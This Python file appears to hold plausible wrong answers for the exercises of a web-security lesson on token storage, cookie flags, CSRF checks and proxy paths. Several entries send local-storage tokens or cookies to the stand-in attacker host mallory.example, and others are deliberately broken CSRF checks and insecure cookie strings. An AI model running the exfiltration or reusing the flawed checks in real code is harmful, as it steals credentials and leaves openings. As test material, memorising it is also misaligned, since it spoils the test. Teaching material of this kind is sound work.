"""Plausible wrong answers to the exercises of lesson 42."""

from __future__ import annotations

_SEND = (
    'def answer(window):\n    window.fetch("https://mallory.example/loot", "POST", mode="no-cors", body={0})'
)
_LINE = "def answer(value):\n    return f'{0}'"
_DOOR = "def answer(method, headers, session):\n    if session is None:\n        return False\n"

WRONG: dict[str, list[tuple[str, str]]] = {
    "42.1": [
        ("answer = 'window.local_storage'", "no-function"),
        ("def answer(window):\n    return window.local_storage['refresh_token']", "nothing-sent"),
        (_SEND.format("window.local_storage['access_token']"), "soon-over"),
        (_SEND.format("','.join(window.local_storage)"), "no-use"),
        (_SEND.format("window.cookie or 'nothing'"), "no-use"),
        ("def answer(window):\n    window.fetch('https://mallory.example/loot', 'PUT')", "raised"),
        ("def answer(window):\n    window.local_storage['password']", "raised"),
    ],
    "42.2": [
        ("def answer(value):\n    return {'__Host-session': value}", "not-text"),
        (_LINE.format("__Host-session={value}; HttpOnly; SameSite=Strict"), "not-taken"),
        (_LINE.format("__Host-session={value}; Secure; Path=/; Domain=notes.example"), "not-taken"),
        (_LINE.format("__Host-session=secret; Secure; HttpOnly; SameSite=Strict; Path=/"), "other-value"),
        (_LINE.format("__Host-session={value}; Secure; SameSite=Strict; Path=/"), "script-sees-it"),
        (_LINE.format("session={value}; HttpOnly; SameSite=Strict; Path=/"), "without-tls"),
        (_LINE.format("__Host-session={value}; Secure; HttpOnly; SameSite=Lax; Path=/"), "crosses"),
        (_LINE.format("__Host-session={value}; Secure; HttpOnly; Path=/"), "crosses"),
        (_LINE.format("session={value}; Secure; HttpOnly; SameSite=Strict"), "not-everywhere"),
        (_LINE.format("session={value}; Secure; HttpOnly; SameSite=Strict; Path=/"), "sibling-sets-it"),
        (
            _LINE.format("__Host-session={value}; Secure; HttpOnly; SameSite=Strict; Path=/; Max-Age=3600"),
            "outlives",
        ),
    ],
    "42.3": [
        (f"{_DOOR}    return True", "no-header"),
        (f"{_DOOR}    return headers.get('x-csrf-token') == session.get('csrf')", "reading"),
        (
            f"{_DOOR}    return method in ('GET', 'HEAD') or headers.get('x-csrf-token') == session.get('csrf')",
            "nothing-equals-nothing",
        ),
        (
            f"{_DOOR}    return method != 'POST' or headers.get('x-csrf-token') == session['csrf']",
            "every-method",
        ),
        (f"{_DOOR}    return method in ('GET', 'HEAD') or 'x-csrf-token' in headers", "other-session"),
        (f"{_DOOR}    return session.get('csrf')", "not-bool"),
    ],
    "42.4": [
        (
            "def answer(path):\n    return 'https://api.notes.example' + path.removeprefix('/backend')",
            "something-else",
        ),
        (
            "def answer(path):\n    if path.startswith('/backend/notes'):\n"
            "        return 'https://api.notes.example' + path.removeprefix('/backend')",
            "up",
        ),
        (
            "def answer(path):\n    parts = path.split('/')\n    if path == '/backend/notes':\n"
            "        return 'https://api.notes.example/notes'\n"
            "    if len(parts) == 4 and parts[:3] == ['', 'backend', 'notes'] and parts[3].isdigit():\n"
            "        return 'https://api.notes.example/notes/' + parts[3]",
            "other-digits",
        ),
        (
            "def answer(path):\n    if path == '/backend/notes':\n        return 'https://api.notes.example/notes'",
            "one-note",
        ),
    ],
}
